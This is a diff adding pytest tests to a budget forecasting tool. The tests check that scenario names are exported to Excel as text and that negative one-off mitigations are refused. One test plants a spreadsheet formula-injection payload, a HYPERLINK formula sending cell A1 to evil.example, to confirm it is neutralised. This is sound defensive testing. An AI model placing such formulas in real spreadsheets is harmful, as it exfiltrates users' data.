@@ -365,3 +365,79 @@ def test_the_command_line_reads_json_scenarios_and_answers_json_when_asked(tmp_p
     assert json.loads(missing.stdout) == {"error": f"{tmp_path / 'nope.csv'}: no such file", "exit_code": 2}
     assert missing.stderr.strip().count("\n") == 0 and "Errno" not in missing.stderr
     assert "(default: 100000)" in run("simulate", "--help").stdout
+
+
+# Issue 38, items 1 and 2: the two silent wrong answers.
+
+
+def test_names_are_written_to_excel_as_text_never_as_live_formulas_or_links(tmp_path: Path) -> None:
+    # A reserve named "=2+2" showed as 4 and a risk named "=HYPERLINK(...)" became a working
+    # link: xlsxwriter's defaults turn strings starting with "=" into formulas, URLs into links.
+    import zipfile
+
+    import polars as pl
+
+    link = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    text = SCENARIO.read_text(encoding="utf-8").replace(
+        'name = "Equal pay claims beyond the provision"', f"name = '{link}'"
+    )
+    assert link in text
+    text = text.replace('name = "Schools balances"', 'name = "=2+2"')
+    scenario = tmp_path / "hostile.toml"
+    scenario.write_text(text, encoding="utf-8")
+    out = tmp_path / "out.xlsx"
+    done = run("simulate", str(scenario), "--trials", "2000", "--seed", "1", "--out", str(out))
+    assert done.returncode == 0, done.stderr
+    with zipfile.ZipFile(out) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+        xml = "".join(z.read(n).decode("utf-8") for n in sheets)
+        rels = [n for n in z.namelist() if "worksheets/_rels" in n]
+    assert "<f>" not in xml, "a text cell was written as a formula"
+    assert not rels or not any(b"hyperlink" in zipfile.ZipFile(out).read(n) for n in rels)
+    reserves = pl.read_excel(out, sheet_name="Reserves")
+    names = [str(v) for c in reserves.columns for v in reserves[c].to_list()]
+    assert "=2+2" in names and "4" not in names
+    drivers = pl.read_excel(out, sheet_name="Drivers")
+    assert link in drivers["name"].to_list()
+
+
+def test_negative_one_off_mitigations_are_refused_in_a_scenario() -> None:
+    # -5e6 turned a £3m overspend into a £2m surplus in every year.
+    text = """
+[plan]
+name = "m"
+first_year = "2019/20"
+years = 2
+net_budget = [100e6, 100e6]
+
+[in_year]
+overspend = { dist = "fixed", value = 3e6 }
+one_off_mitigations = -5e6
+
+[reserves]
+general_fund = 10e6
+"""
+    with pytest.raises(fr.ValidationError, match=r"in_year\.one_off_mitigations: -5000000(\.00)? is negative"):
+        fr.Scenario.from_toml_str(text)
+    fine = fr.Scenario.from_toml_str(text.replace("-5e6", "5e6"))
+    assert fine.ledger()["recurring_gap"].to_list()[0] == 8_000_000
+
+
+def test_negative_one_off_mitigations_fail_the_check_and_the_forecast(tmp_path: Path) -> None:
+    # In a monitoring table a negative mitigation passed the check with 0 errors and read the
+    # underlying variance as £2m instead of £12m.
+    import json
+
+    lines = EXAMPLE_M8.splitlines()
+    header = lines[0].split(",")
+    col = header.index("one_off_mitigations")
+    rows = [r.split(",") for r in lines[1:]]
+    rows[0][col] = "-5000000"
+    table = tmp_path / "negative.csv"
+    table.write_text("\n".join([lines[0], *(",".join(r) for r in rows)]) + "\n")
+    done = run("check", str(table), "--format", "json")
+    assert done.returncode == 1, done.stdout
+    found = [f for f in json.loads(done.stdout)["findings"] if f.get("column") == "one_off_mitigations"]
+    assert found and "is negative" in found[0]["message"]
+    with pytest.raises(fr.ValidationError, match="one_off_mitigations.*is negative"):
+        fr.monitoring.forecast(fr.monitoring.read(table))
